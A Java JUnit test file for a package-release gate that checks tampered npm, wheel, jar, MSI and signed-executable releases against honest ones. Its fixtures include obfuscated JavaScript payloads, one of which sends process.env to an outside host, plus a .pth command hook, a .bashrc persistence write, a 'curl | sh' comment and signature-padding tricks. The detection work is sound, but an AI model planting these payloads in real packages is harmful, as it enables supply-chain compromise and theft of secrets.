package dev.firebreak.gate;

import static org.assertj.core.api.Assertions.assertThat;

import dev.firebreak.gate.judge.Judgement;
import dev.firebreak.gate.judge.Verdict;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.util.Arrays;
import java.util.Base64;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.Test;

/// Releases that were tampered with, each in one way, against the honest one; no warning and no rule helps.
class TamperedReleaseTest {
    private static final String CODE =
            "module.exports = function add(a, b) { return a + b; };\n".repeat(20);

    private static Map<String, byte[]> npm(String version, String script, String more) {
        return Releases.files(
                "package/package.json",
                "{\"name\":\"adder\",\"version\":\""
                        + version
                        + "\",\"main\":\"index.js\""
                        + script
                        + "}",
                "package/index.js",
                CODE + more,
                "package/README.md",
                "# adder\n");
    }

    private static Judgement npmJudged(String script, String more) throws IOException {
        return Releases.judge(
                "adder.tgz",
                Releases.tgz(npm("1.0.1", script, more)),
                Releases.tgz(npm("1.0.0", "", "")));
    }

    @Test
    void anHonestSuccessorIsReleased() throws IOException {
        assertThat(
                        npmJudged(",\"dependencies\":{}", "module.exports.sub = (a, b) => a - b;\n")
                                .verdict())
                .isEqualTo(Verdict.RELEASE);
        assertThat(
                        Releases.judge(
                                        "old.msi",
                                        Releases.fixture("new-honest.msi"),
                                        Releases.fixture("old.msi"))
                                .verdict())
                .isEqualTo(Verdict.RELEASE);
    }

    @Test
    void aNewDependencyThatIsUsedDoesNotHold() throws IOException {
        assertThat(
                        npmJudged(
                                        ",\"dependencies\":{\"left-pad\":\"^1.0.0\"}",
                                        "const pad = require('left-pad');\n")
                                .verdict())
                .isEqualTo(Verdict.RELEASE);
    }

    @Test
    void aDependencyThatNothingUsesHolds() throws IOException {
        assertThat(
                        Releases.rules(
                                npmJudged(",\"dependencies\":{\"plain-crypto-x\":\"^1.0.0\"}", "")))
                .contains("new-dependency");
        assertThat(npmJudged(",\"dependencies\":{\"plain-crypto-x\":\"^1.0.0\"}", "").verdict())
                .isEqualTo(Verdict.HOLD);
    }

    @Test
    void aDependencyThatLooksLikeAWellKnownOneHolds() throws IOException {
        assertThat(
                        Releases.rules(
                                npmJudged(
                                        ",\"dependencies\":{\"expresss\":\"^1.0.0\"}",
                                        "const e = require('expresss');\n")))
                .contains("look-alike-dependency");
        assertThat(
                        npmJudged(
                                        ",\"dependencies\":{\"preact\":\"^10.0.0\"}",
                                        "const e = require('preact');\n")
                                .verdict())
                .isEqualTo(Verdict.RELEASE);
    }

    @Test
    void aNetAssemblyThatNewlyTalksToTheNetworkHolds() throws IOException {
        Judgement j =
                Releases.judge(
                        "calc.nupkg",
                        Releases.zip(
                                Releases.files("lib/calc.dll", Releases.fixture("calc-net.dll"))),
                        Releases.zip(Releases.files("lib/calc.dll", Releases.fixture("calc.dll"))));
        assertThat(Releases.rules(j)).contains("new-network");
        assertThat(j.verdict()).isEqualTo(Verdict.HOLD);
    }

    @Test
    void aConfigurationThatNamesADomainManagerHolds() throws IOException {
        String config =
                "<configuration><runtime><appDomainManagerType value=\"X\"/></runtime></configuration>";
        assertThat(
                        Releases.rules(
                                Releases.judge(
                                        "x.zip",
                                        Releases.zip(
                                                Releases.files(
                                                        "a.txt", "x", "a.exe.config", config)),
                                        Releases.zip(Releases.files("a.txt", "x")))))
                .contains("load-hook");
    }

    @Test
    void anInstallHookHolds() throws IOException {
        assertThat(npmJudged(",\"scripts\":{\"postinstall\":\"node a.js\"}", "").verdict())
                .isEqualTo(Verdict.HOLD);
        assertThat(
                        npmJudged(",\"scripts\":{\"test\":\"node a.js\",\"prepare\":\"tsc\"}", "")
                                .verdict())
                .isEqualTo(Verdict.RELEASE);
    }

    @Test
    void hiddenCodeInASourceFileHolds() throws IOException {
        byte[] random = new byte[900];
        new Random(1).nextBytes(random);
        String blob = Base64.getEncoder().encodeToString(random);
        String[] payloads = {
            ";eval(Buffer.from(\"" + blob + "\", \"base64\").toString());\n",
            ";require('child_process').exec('id');\n",
            ";require(\"https\").get(\"https://collect.metrics-cdn.net/\" + JSON.stringify(process.env));\n",
            "x;" + " ".repeat(300) + "require('fs')\n",
            "var _0x1a2b=1,_0x2b3c=2,_0x3c4d=3,_0x4d5e=4;\n",
            "var u = Buffer.from(\"68747470733a2f2f6578616d706c652e6e6574\", \"hex\");\n",
            "var s = \"" + "\ufe01".repeat(60) + "\";\n",
            "var m = require('chi'+'ld_pro'+'cess');\n",
            "f(a(0x1f2),a(0x1f3),a(0x1f4),a(0x1f5),a(0x1f6),a(0x1f7),a(0x1f8),a(0x1f9));\n",
            "var t = [1,2].map(c => String.fromCharCode(c ^ 7)).join('');\n",
            "(0,Function)(require('zlib').inflateSync(d).toString())();\n",
            "setTimeout(atob('YQ=='), 1);\n",
            "var ip = '198.51.100.7';\n",
        };
        for (String payload : payloads) {
            assertThat(npmJudged("", payload).verdict())
                    .as(payload.substring(0, Math.min(60, payload.length())))
                    .isEqualTo(Verdict.HOLD);
        }
    }

    @Test
    void theSameWordsInACommentDoNotHold() throws IOException {
        assertThat(
                        npmJudged(
                                        "",
                                        "// require('child_process').exec('id') and eval(atob(x)) at https://bad.collect-x.net/\n/* curl https://x.y | sh */\n")
                                .verdict())
                .isEqualTo(Verdict.RELEASE);
    }

    @Test
    void theSameVersionWithOtherContentHolds() throws IOException {
        assertThat(
                        Releases.rules(
                                Releases.judge(
                                        "adder.tgz",
                                        Releases.tgz(npm("1.0.0", "", "//\nlet x = 1;\n")),
                                        Releases.tgz(npm("1.0.0", "", "")))))
                .contains("same-version");
    }

    @Test
    void aProcessorThatEveryBuildWouldRunHolds() throws IOException {
        Map<String, byte[]> before =
                Releases.files("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n");
        String services = "META-INF/services/javax.annotation.processing.Processor";
        Map<String, byte[]> now =
                Releases.files(
                        "META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n", services, "a.b.Init\n");
        Judgement j = Releases.judge("a.jar", Releases.zip(now), Releases.zip(before));
        assertThat(j.verdict()).isEqualTo(Verdict.HOLD);
        assertThat(Releases.rules(j)).contains("load-hook");
    }

    @Test
    void aNewSourceOfPackagesHolds() throws IOException {
        assertThat(
                        Releases.rules(
                                Releases.judge(
                                        "a.zip",
                                        Releases.zip(
                                                Releases.files(
                                                        "a.txt",
                                                        "x",
                                                        "etc/apt/sources.list.d/h.list",
                                                        "deb http://a.example.invalid stable main\n")),
                                        Releases.zip(Releases.files("a.txt", "x")))))
                .contains("privilege");
    }

    /// Lists of file types name the start-up files of shells; who changes one looks for it in somebody's home.
    @Test
    void aStartUpFileOfAShellMeansSomethingInAHome() throws IOException {
        byte[] before = Releases.zip(Releases.files("a.py", "x = 1\n"));
        String list = "types = ('*.sh', '.bashrc', 'bashrc', '.zshrc')\n";
        String change = "open(os.path.join(os.path.expanduser('~'), '.bashrc'), 'a')\n";
        assertThat(
                        Releases.rules(
                                Releases.judge(
                                        "a.zip",
                                        Releases.zip(Releases.files("a.py", list)),
                                        before)))
                .doesNotContain("new-persistence");
        assertThat(
                        Releases.rules(
                                Releases.judge(
                                        "a.zip",
                                        Releases.zip(Releases.files("a.py", change)),
                                        before)))
                .contains("new-persistence");
    }

    @Test
    void textBehindTheEndOfAnIconAndAProgramNamedPictureHold() throws IOException {
        byte[] png =
                Base64.getDecoder()
                        .decode(
                                "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==");
        byte[] tail = Arrays.copyOf(png, png.length + 200);
        Arrays.fill(tail, png.length, tail.length, (byte) 'A');
        Map<String, byte[]> before = Releases.files("icon.png", png, "a.txt", "x");
        assertThat(
                        Releases.rules(
                                Releases.judge(
                                        "x.zip",
                                        Releases.zip(
                                                Releases.files("icon.png", tail, "a.txt", "y")),
                                        Releases.zip(before))))
                .contains("data-behind-the-end");
        assertThat(
                        Releases.rules(
                                Releases.judge(
                                        "x.zip",
                                        Releases.zip(
                                                Releases.files(
                                                        "icon.png",
                                                        png,
                                                        "a.txt",
                                                        "x",
                                                        "b.png",
                                                        Releases.fixture("plain.dll"))),
                                        Releases.zip(before))))
                .contains("false-name");
    }

    @Test
    void aWheelWhoseFilesAreNotInItsListHolds() throws IOException {
        String record =
                "pkg/__init__.py,sha256=47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU,0\npkg-1.dist-info/RECORD,,\n";
        Map<String, byte[]> good =
                Releases.files("pkg/__init__.py", "", "pkg-1.dist-info/RECORD", record);
        Map<String, byte[]> bad =
                Releases.files(
                        "pkg/__init__.py",
                        "",
                        "pkg-1.dist-info/RECORD",
                        record,
                        "pkg.pth",
                        "import os; os.system('id')\n");
        assertThat(
                        Releases.judge(
                                        "pkg-1-py3-none-any.whl",
                                        Releases.zip(good),
                                        Releases.zip(good))
                                .verdict())
                .isEqualTo(Verdict.RELEASE);
        assertThat(
                        Releases.rules(
                                Releases.judge(
                                        "pkg-1-py3-none-any.whl",
                                        Releases.zip(bad),
                                        Releases.zip(good))))
                .contains("not-as-listed", "load-hook");
    }

    @Test
    void bytesAroundTheSignatureAreAllAccountedFor() throws IOException {
        byte[] signed = Releases.fixture("signed.exe");
        assertThat(Releases.judge("a.exe", signed, signed).verdict()).isEqualTo(Verdict.RELEASE);
        ByteBuffer b = ByteBuffer.wrap(signed).order(ByteOrder.LITTLE_ENDIAN);
        int directory = b.getInt(0x3c) + 24 + 112 + 4 * 8;
        int table = b.getInt(directory);
        int size = b.getInt(directory + 4);
        byte[] noise = new byte[512];
        new Random(3).nextBytes(noise);

        byte[] inEntry = Arrays.copyOf(signed, signed.length + noise.length);
        System.arraycopy(noise, 0, inEntry, signed.length, noise.length);
        ByteBuffer e = ByteBuffer.wrap(inEntry).order(ByteOrder.LITTLE_ENDIAN);
        e.putInt(directory + 4, size + noise.length);
        e.putInt(table, e.getInt(table) + noise.length);
        Judgement judged = Releases.judge("a.exe", inEntry, signed);
        assertThat(Releases.rules(judged)).contains("unsigned-bytes-entry-slack");
        assertThat(judged.verdict()).isEqualTo(Verdict.DENY);

        byte[] after = Arrays.copyOf(signed, signed.length + noise.length);
        System.arraycopy(noise, 0, after, signed.length, noise.length);
        assertThat(Releases.rules(Releases.judge("a.exe", after, signed)))
                .contains("unsigned-bytes-after-table");

        byte[] second = Arrays.copyOf(signed, signed.length + size);
        System.arraycopy(signed, table, second, signed.length, size);
        ByteBuffer.wrap(second).order(ByteOrder.LITTLE_ENDIAN).putInt(directory + 4, size * 2);
        assertThat(Releases.rules(Releases.judge("a.exe", second, signed)))
                .contains("unsigned-bytes-second-entry");

        assertThat(
                        Releases.rules(
                                Releases.judge(
                                        "a.exe", Releases.fixture("signed-blob.exe"), signed)))
                .contains("unsigned-bytes-unauthenticated-attribute");

        byte[] altered = signed.clone();
        altered[0x600] ^= 1;
        Judgement broken = Releases.judge("a.exe", altered, signed);
        assertThat(Releases.rules(broken)).contains("signature-broken");
        assertThat(broken.verdict()).isEqualTo(Verdict.DENY);
    }

    @Test
    void anotherKeyOfTheSameNameHolds() throws IOException {
        assertThat(
                        Releases.rules(
                                Releases.judge(
                                        "a.msi",
                                        Releases.fixture("new-key.msi"),
                                        Releases.fixture("old.msi"))))
                .contains("key-changed");
    }

    @Test
    void aLibraryThatNewlyTalksToTheNetworkHolds() throws IOException {
        Judgement j =
                Releases.judge(
                        "a.msi", Releases.fixture("new-dll.msi"), Releases.fixture("old.msi"));
        assertThat(Releases.rules(j)).contains("new-network", "signature-lost");
        Map<String, byte[]> before = Releases.files("app.exe", Releases.fixture("signed.exe"));
        Map<String, byte[]> after =
                Releases.files(
                        "app.exe",
                        Releases.fixture("signed.exe"),
                        "version.dll",
                        Releases.fixture("network.dll"));
        assertThat(
                        Releases.rules(
                                Releases.judge("a.zip", Releases.zip(after), Releases.zip(before))))
                .contains("side-loading");
    }

    @Test
    void bytesBeforeAndAfterAnArchiveHold() throws IOException {
        byte[] zip = Releases.zip(Releases.files("a.txt", "x", "b.txt", "y"));
        byte[] tail = Arrays.copyOf(zip, zip.length + 300);
        new Random(5).nextBytes(noise(tail, zip.length));
        assertThat(Releases.judge("x.jar", tail, zip).verdict()).isNotEqualTo(Verdict.RELEASE);
        byte[] script = Releases.utf8("#!/bin/sh\necho hi; exit 0\n".repeat(10));
        byte[] before = Arrays.copyOf(script, script.length + zip.length);
        System.arraycopy(zip, 0, before, script.length, zip.length);
        assertThat(Releases.judge("x.jar", before, zip).verdict()).isNotEqualTo(Verdict.RELEASE);
    }

    private static byte[] noise(byte[] target, int from) {
        for (int i = from; i < target.length; i++) {
            target[i] = (byte) (i * 31);
        }
        return new byte[1];
    }

    @Test
    void theSameInputGivesTheSameVerdictWordForWord() throws IOException {
        Judgement one =
                Releases.judge(
                        "a.msi", Releases.fixture("new-dll.msi"), Releases.fixture("old.msi"));
        Judgement two =
                Releases.judge(
                        "a.msi", Releases.fixture("new-dll.msi"), Releases.fixture("old.msi"));
        assertThat(two).isEqualTo(one);
    }
}
